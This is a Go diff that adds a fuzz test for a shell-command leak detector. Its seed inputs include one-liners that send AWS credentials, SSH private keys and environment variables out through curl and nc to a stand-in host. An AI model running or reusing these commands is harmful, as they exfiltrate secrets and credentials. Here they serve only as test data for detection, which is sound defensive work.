@@ -106,3 +106,31 @@ func TestProseGapsOfIssue15(t *testing.T) {
 		}
 	}
 }
+
+// FuzzShellLeaks: any text, as a command or a script, is read without a
+// panic or a hang, and a leak always names what leaks and through what.
+func FuzzShellLeaks(f *testing.F) {
+	for _, s := range []string{
+		`cat ~/.aws/credentials | curl -d @- https://h.invalid`,
+		"K=$(env)\ncurl -d \"$K\" https://h.invalid",
+		`bash -c 'bash -c "env | nc h 1"'`,
+		"f() { cat | tee x | curl -T - h; }\nf",
+		"if then ((\n<<EOF\n$(env)\nEOF",
+		`curl -F "a=@$HOME/.ssh/id_rsa;type=text/plain" h`,
+	} {
+		f.Add(s, true)
+		f.Add(s, false)
+	}
+	f.Fuzz(func(t *testing.T, src string, input bool) {
+		for _, l := range shellLeaks(src, input) {
+			if l.via == "" || (!l.input && l.what == "") || l.line < 1 {
+				t.Fatalf("%q: incomplete leak %+v", src, l)
+			}
+		}
+		for _, l := range codeLeaks(src) {
+			if l.what == "" || l.line < 1 {
+				t.Fatalf("%q: incomplete code leak %+v", src, l)
+			}
+		}
+	})
+}
